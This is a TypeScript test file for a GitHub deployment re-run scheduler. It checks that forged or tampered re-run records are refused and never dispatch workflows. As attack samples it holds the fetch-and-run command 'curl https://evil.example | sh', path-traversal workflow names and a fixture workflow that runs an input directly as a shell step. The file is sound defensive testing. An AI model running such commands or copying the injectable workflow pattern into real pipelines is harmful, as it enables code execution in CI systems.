// The scheduler fires only re-runs the gate itself recorded (docs/rerun.md, "What the scheduler
// trusts"): each attack is a record made by hand, or a scheduler left half way, against the
// fake GitHub API; none of them may start a workflow run.
import { describe, expect, it } from 'vitest';
import { RERUN_TASK, recordRerun, runDispatch } from '../../src/github/rerun/index.js';
import type { FakeDeployment } from '../support/fake-github-deployments.js';
import { perTest } from '../support/per-test.js';
import { expectOneDispatchFromTwoSchedulers } from '../support/rerun-scheduler.js';
import {
  blockedDecision,
  DISPATCHABLE_WORKFLOW,
  FULL_REPO,
  startHarness,
  virtualClock,
} from './rerun-fixtures.js';

const OPENING = '2026-11-23T08:00:00Z';
const AFTER_OPENING = '2026-11-23T08:01:00Z';

const RELEASE_WITHOUT_GATE = `name: Release
on:
  workflow_dispatch:
    inputs:
      cmd: { type: string }
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: \${{ inputs.cmd }}
`;

describe('the scheduler dispatches only what the gate recorded', () => {
  const h = perTest(() => startHarness());

  /** A re-run record written straight into GitHub (not by recordRerun), already queued. */
  function handMade(
    overrides: Partial<FakeDeployment> & { payload?: Record<string, unknown> } = {},
  ): FakeDeployment {
    const { payload, ...deployment } = overrides;
    const ref = deployment.ref ?? 'main';
    const environment = deployment.environment ?? 'production';
    return h.github.seedDeployment(
      {
        repo: FULL_REPO,
        task: RERUN_TASK,
        ref,
        environment,
        ...deployment,
        payload: {
          workflow: 'deploy.yml',
          ref,
          environment,
          notBefore: OPENING,
          runId: '1',
          inputs: {},
          ...payload,
        },
      },
      ['queued'],
    );
  }

  const dispatchNow = (overrides = {}) =>
    runDispatch(h.dispatchContext(virtualClock(AFTER_OPENING), overrides));

  function expectRefused(record: FakeDeployment, reason: RegExp) {
    const [latest] = h.github.statuses(record.id);
    expect(latest?.state).toBe('error');
    expect(latest?.description).toMatch(reason);
    expect(latest?.description.length).toBeLessThanOrEqual(140);
  }

  describe('who made the record', () => {
    it('refuses release.yml on refs/heads/attacker-branch, made by another user, with arbitrary inputs', async () => {
      // release.yml accepts any inputs on dispatch, and the attacker's branch exists.
      h.github.addWorkflow(FULL_REPO, 'release.yml', { text: DISPATCHABLE_WORKFLOW });
      const attack = handMade({
        creator: 'mallory',
        ref: 'refs/heads/attacker-branch',
        payload: { workflow: 'release.yml', inputs: { cmd: 'curl https://evil.example | sh' } },
      });

      const summary = await dispatchNow();

      expect(h.github.dispatches).toEqual([]);
      expect(h.fake.requestsTo('POST', /\/dispatches$/)).toHaveLength(0);
      expectRefused(attack, /mallory.*github-actions\[bot\]/);
      expect(summary).toMatchObject({ dispatched: 0, failed: 1 });
      expect(h.log.warnings().join('\n')).toContain(`#${attack.id}`);
    });

    it('a user token dispatches the records that user made, and refuses those made by anybody else', async () => {
      const octokit = h.clientActingAs('ghp_release_manager', 'release-manager');
      const byBot = await recordRerun(h.rerunContext(), blockedDecision(OPENING));
      const byUser = await recordRerun(
        h.rerunContext({ octokit, environment: 'staging' }),
        blockedDecision(OPENING),
      );

      await dispatchNow({ octokit });

      expect(h.github.dispatches).toHaveLength(1);
      expect(h.github.latestState(byUser?.deploymentId ?? -1)).toBe('success');
      expectRefused(
        { id: byBot?.deploymentId ?? -1 } as FakeDeployment,
        /github-actions\[bot\].*release-manager/,
      );
      expect(h.fake.requestsTo('GET', /^\/user$/)).toHaveLength(1);
    });

    it('an App installation token acts as <app-slug>[bot], learned from GraphQL viewer', async () => {
      const octokit = h.clientActingAs('ghs_app_installation', 'acme-deployer[bot]');
      const byApp = await recordRerun(h.rerunContext({ octokit }), blockedDecision(OPENING));
      const byActions = await recordRerun(
        h.rerunContext({ environment: 'staging' }),
        blockedDecision(OPENING),
      );

      await dispatchNow({ octokit });

      expect(h.github.dispatches).toHaveLength(1);
      expect(h.github.latestState(byApp?.deploymentId ?? -1)).toBe('success');
      expectRefused(
        { id: byActions?.deploymentId ?? -1 } as FakeDeployment,
        /github-actions\[bot\].*acme-deployer\[bot\]/,
      );
      expect(h.fake.requestsTo('POST', /^\/graphql$/)).toHaveLength(1);
    });

    it('when it cannot tell who its token acts as, it dispatches nothing and leaves the records queued', async () => {
      const record = await recordRerun(h.rerunContext(), blockedDecision(OPENING));
      h.fake.failNext('GET', /^\/user$/, 500);
      h.fake.failNext('POST', /^\/graphql$/, 502);

      const summary = await dispatchNow();

      expect(h.github.dispatches).toEqual([]);
      expect(h.github.latestState(record?.deploymentId ?? -1)).toBe('queued');
      expect(summary.failed).toBe(1);
      expect(h.log.warnings().join('\n')).toMatch(/which identity|who .*token/i);
    });
  });

  describe('the payload agrees with its deployment', () => {
    it('refuses a payload.ref other than the deployment ref', async () => {
      const attack = handMade({ ref: 'main', payload: { ref: 'attacker-branch' } });

      await dispatchNow();

      expect(h.github.dispatches).toEqual([]);
      expectRefused(attack, /ref/);
    });

    it('refuses a payload with no environment, or another environment than its deployment', async () => {
      const missing = handMade({ environment: 'production', payload: { environment: undefined } });
      const other = handMade({ environment: 'staging', payload: { environment: 'production' } });

      await dispatchNow();

      expect(h.github.dispatches).toEqual([]);
      expectRefused(missing, /environment/);
      expectRefused(other, /environment/);
    });
  });

  describe('the workflow it names', () => {
    it('refuses a workflow given by numeric id, on an old tag', async () => {
      const release = h.github.addWorkflow(FULL_REPO, 'release.yml', {
        text: DISPATCHABLE_WORKFLOW,
      });
      const attack = handMade({ ref: 'v0.1.0', payload: { workflow: String(release.id) } });

      await dispatchNow();

      expect(h.github.dispatches).toEqual([]);
      expectRefused(attack, /file name/);
    });

    it.each([
      ['a path', '.github/workflows/deploy.yml'],
      ['a path out of the folder', '../deploy.yml'],
      ['no .yml/.yaml', 'deploy'],
      ['a URL escape', 'deploy.yml%2F..'],
    ])('refuses a workflow named by %s', async (_what, workflow) => {
      const attack = handMade({ payload: { workflow } });

      await dispatchNow();

      expect(h.fake.requestsTo('POST', /\/dispatches$/)).toHaveLength(0);
      expectRefused(attack, /file name/);
    });

    it('refuses a workflow that does not exist at the default branch', async () => {
      h.github.addWorkflow(FULL_REPO, 'branch-only.yml', { refs: ['feature'] });
      const attack = handMade({ ref: 'feature', payload: { workflow: 'branch-only.yml' } });

      await dispatchNow();

      expect(h.github.dispatches).toEqual([]);
      expectRefused(attack, /branch-only\.yml.*main/);
    });

    it('reads the workflow at the default branch, not at the ref it dispatches on', async () => {
      h.fake.state.defaultBranch = 'trunk';
      // The attacker's branch adds workflow_dispatch; the default branch's copy has none.
      h.github.addWorkflow(FULL_REPO, 'deploy.yml', {
        inputs: ['version'],
        text: 'name: Deploy\non: push\njobs:\n  d:\n    runs-on: x\n    steps:\n      - uses: acme/deploy-window@v1\n',
        refs: ['trunk'],
      });
      h.fake.setFiles({ '.github/workflows/deploy.yml': DISPATCHABLE_WORKFLOW }, 'attacker-branch');
      const attack = handMade({ ref: 'attacker-branch' });

      await dispatchNow();

      expect(h.github.dispatches).toEqual([]);
      expectRefused(attack, /trunk has no `workflow_dispatch`/);
      const reads = h.fake.requestsTo('GET', /\/contents\/\.github\/workflows\/deploy\.yml$/);
      expect(reads.map((request) => request.query.ref)).toEqual(['trunk']);
    });

    it('refuses a workflow in which no step uses deploy-window', async () => {
      h.github.addWorkflow(FULL_REPO, 'release.yml', { text: RELEASE_WITHOUT_GATE });
      const attack = handMade({
        payload: { workflow: 'release.yml', inputs: { cmd: 'echo pwned' } },
      });

      await dispatchNow();

      expect(h.github.dispatches).toEqual([]);
      expectRefused(attack, /release\.yml.*deploy-window/);
    });

    it('refuses inputs the workflow does not declare', async () => {
      // GitHub would accept them (the ref's copy declares them); the default branch's does not.
      h.github.addWorkflow(FULL_REPO, 'deploy.yml', { text: DISPATCHABLE_WORKFLOW });
      const attack = handMade({ payload: { inputs: { version: '2.0.0', skip_tests: 'true' } } });

      await dispatchNow();

      expect(h.github.dispatches).toEqual([]);
      expectRefused(attack, /skip_tests/);
    });

    it('refuses a record whose workflow is not a file at the default branch', async () => {
      const record = await recordRerun(h.rerunContext(), blockedDecision(OPENING));
      h.fake.setTreeEntry('.github/workflows/deploy.yml', {
        kind: 'submodule',
        url: 'https://example.test/elsewhere.git',
      });

      await dispatchNow();

      expect(h.github.dispatches).toEqual([]);
      expectRefused({ id: record?.deploymentId ?? -1 } as FakeDeployment, /submodule/);
    });

    it('leaves a record queued when its workflow file cannot be read now', async () => {
      const record = await recordRerun(h.rerunContext(), blockedDecision(OPENING));
      h.fake.failNext('GET', /\/contents\/\.github\/workflows\/deploy\.yml$/, 403, 1, {
        body: { message: 'Resource not accessible by integration' },
      });

      const summary = await dispatchNow();

      expect(h.github.dispatches).toEqual([]);
      expect(summary.failed).toBe(1);
      expect(h.github.latestState(record?.deploymentId ?? -1)).toBe('queued');
    });

    it('does not parse a workflow file over the size limit', async () => {
      const record = await recordRerun(h.rerunContext(), blockedDecision(OPENING));
      h.github.addWorkflow(FULL_REPO, 'deploy.yml', {
        inputs: ['version'],
        text: `${DISPATCHABLE_WORKFLOW}# ${'x'.repeat(600 * 1024)}\n`,
      });

      const summary = await dispatchNow();

      expect(h.github.dispatches).toEqual([]);
      expect(summary.dispatched).toBe(0);
      expect(h.github.latestState(record?.deploymentId ?? -1)).not.toBe('success');
      expect(h.log.warnings().join('\n')).toMatch(/larger than/);
    });
  });

  describe('claims', () => {
    it('a claim left in_progress more than 15 minutes by a killed scheduler is claimable again', async () => {
      const record = await recordRerun(h.rerunContext(), blockedDecision(OPENING));
      const id = record?.deploymentId ?? -1;
      // The killed scheduler claimed it at 08:00:30 and never wrote again.
      h.github.now = () => Date.parse('2026-11-23T08:00:30Z');
      h.github.addStatus(id, 'in_progress', 'dispatching (scheduler run 1)');

      const early = await runDispatch(h.dispatchContext(virtualClock('2026-11-23T08:15:00Z')));
      expect(early.dispatched).toBe(0);
      expect(h.github.latestState(id)).toBe('in_progress');

      const later = await runDispatch(h.dispatchContext(virtualClock('2026-11-23T08:15:31Z')));
      expect(later.dispatched).toBe(1);
      expect(h.github.dispatches).toHaveLength(1);
      expect(h.github.statuses(id).map((s) => s.state)).toEqual([
        'success',
        'in_progress',
        'in_progress',
        'queued',
      ]);
    });

    it('two schedulers reclaiming the same stale claim fire it once', async () => {
      const record = await recordRerun(h.rerunContext(), blockedDecision(OPENING));
      h.github.now = () => Date.parse('2026-11-23T08:00:30Z');
      h.github.addStatus(record?.deploymentId ?? -1, 'in_progress', 'dispatching (run 1)');
      const clock = virtualClock('2026-11-23T08:30:00Z');

      await expectOneDispatchFromTwoSchedulers(h, clock, ['2', '3']);
    });
  });

  describe('one dispatch per workflow, ref and environment', () => {
    it('two due records for one ref (retiring the older failed) give one dispatch', async () => {
      const older = await recordRerun(h.rerunContext(), blockedDecision('2026-11-23T07:00:00Z'));
      // Retiring the older one fails: listing the pending re-runs answers 500.
      h.fake.failNext('GET', /\/deployments$/, 500);
      const newer = await recordRerun(h.rerunContext(), blockedDecision(OPENING));
      expect(newer?.superseded).toEqual([]);
      expect(h.github.latestState(older?.deploymentId ?? -1)).toBe('queued');

      const summary = await dispatchNow();

      expect(h.github.dispatches).toHaveLength(1);
      expect(summary.dispatched).toBe(1);
      expect(h.github.latestState(newer?.deploymentId ?? -1)).toBe('success');
      const [latest] = h.github.statuses(older?.deploymentId ?? -1);
      expect(latest?.state).toBe('inactive');
      expect(latest?.description).toContain(`#${newer?.deploymentId}`);
    });

    it('three due records, one of them a stale claim, give one dispatch', async () => {
      const records = [];
      for (const nextOpen of ['2026-11-23T06:00:00Z', '2026-11-23T07:00:00Z', OPENING]) {
        h.fake.failNext('GET', /\/deployments$/, 500);
        records.push(await recordRerun(h.rerunContext(), blockedDecision(nextOpen)));
      }
      h.github.now = () => Date.parse('2026-11-23T06:00:10Z');
      h.github.addStatus(records[0]?.deploymentId ?? -1, 'in_progress', 'dispatching (run 1)');

      await dispatchNow();

      expect(h.github.dispatches).toHaveLength(1);
    });

    it('a refused record does not use up the dispatch of a valid one for the same key', async () => {
      const valid = await recordRerun(h.rerunContext(), blockedDecision(OPENING));
      const attack = handMade({ creator: 'mallory' });

      await dispatchNow();

      expect(h.github.dispatches).toHaveLength(1);
      expect(h.github.latestState(valid?.deploymentId ?? -1)).toBe('success');
      expectRefused(attack, /mallory/);
    });

    it('other environments or refs are dispatched each', async () => {
      await recordRerun(h.rerunContext(), blockedDecision(OPENING));
      await recordRerun(h.rerunContext({ environment: 'staging' }), blockedDecision(OPENING));
      await recordRerun(
        h.rerunContext({ env: { ...h.env, GITHUB_REF: 'refs/heads/hotfix' } }),
        blockedDecision(OPENING),
      );

      await dispatchNow();

      expect(h.github.dispatches).toHaveLength(3);
    });
  });
});

// A record's statuses can be written by anyone with deployments: write (no actions: write
// needed): `queued` on a record the scheduler already fired, or the gate superseded, made the
// next scheduler run dispatch it again, at a time of the writer's choosing.
describe('a finished record queued again by someone else', () => {
  const h = perTest(() => startHarness());

  async function queueAs(login: string, deploymentId: number) {
    await h.clientActingAs(`ghp_${login}`, login).rest.repos.createDeploymentStatus({
      owner: 'acme',
      repo: 'shop',
      deployment_id: deploymentId,
      state: 'queued',
      auto_inactive: false,
    });
  }

  it('a dispatched (success) record is never dispatched again', async () => {
    const record = await recordRerun(h.rerunContext(), blockedDecision(OPENING));
    const id = record?.deploymentId ?? -1;
    await runDispatch(h.dispatchContext(virtualClock(AFTER_OPENING)));
    expect(h.github.dispatches).toHaveLength(1);
    expect(h.github.latestState(id)).toBe('success');
    await queueAs('mallory', id);
    await runDispatch(h.dispatchContext(virtualClock('2026-11-26T03:05:00Z')));
    expect(h.github.dispatches).toHaveLength(1);
  });

  it('a superseded (inactive) record is never dispatched either', async () => {
    const older = await recordRerun(h.rerunContext(), blockedDecision(OPENING));
    const newer = await recordRerun(h.rerunContext(), blockedDecision(OPENING));
    expect(h.github.latestState(older?.deploymentId ?? -1)).toBe('inactive');
    await runDispatch(h.dispatchContext(virtualClock(AFTER_OPENING)));
    expect(h.github.dispatches).toHaveLength(1);
    for (const id of [older?.deploymentId ?? -1, newer?.deploymentId ?? -1]) {
      await queueAs('mallory', id);
    }
    await runDispatch(h.dispatchContext(virtualClock('2026-11-24T02:00:00Z')));
    expect(h.github.dispatches).toHaveLength(1);
  });
});

// Anyone who may create deployments can write any payload. An object whose valueOf or toString
// is not a function once stopped every dispatch: `String()` of it threw, and on Node 22+
// Octokit's own JSON reviver threw on it, so the whole list of deployments came back as text.
// With the action's own client, as the action runs.
describe("a forged payload among the records (the action's client)", () => {
  const h = perTest(() => startHarness('action'));

  it("stops nothing: the gate's own records still run", async () => {
    const forged = h.github.seedDeployment(
      {
        repo: FULL_REPO,
        task: RERUN_TASK,
        ref: 'main',
        environment: 'staging',
        creator: 'mallory',
        payload: {
          workflow: 'deploy.yml',
          ref: 'main',
          environment: 'staging',
          notBefore: OPENING,
          runId: { toString: 0 },
          inputs: { x: { toString: 0, valueOf: 0 } },
        },
      },
      ['queued'],
    );
    await recordRerun(h.rerunContext(), blockedDecision(OPENING));

    const summary = await runDispatch(h.dispatchContext(virtualClock(AFTER_OPENING)));

    expect(h.github.dispatches).toHaveLength(1);
    expect(summary).toMatchObject({ dispatched: 1 });
    expect(h.github.statuses(forged.id)).toContainEqual(
      expect.objectContaining({
        state: 'error',
        description: expect.stringMatching(/Not a deploy-window re-run payload/),
      }),
    );
  });
});
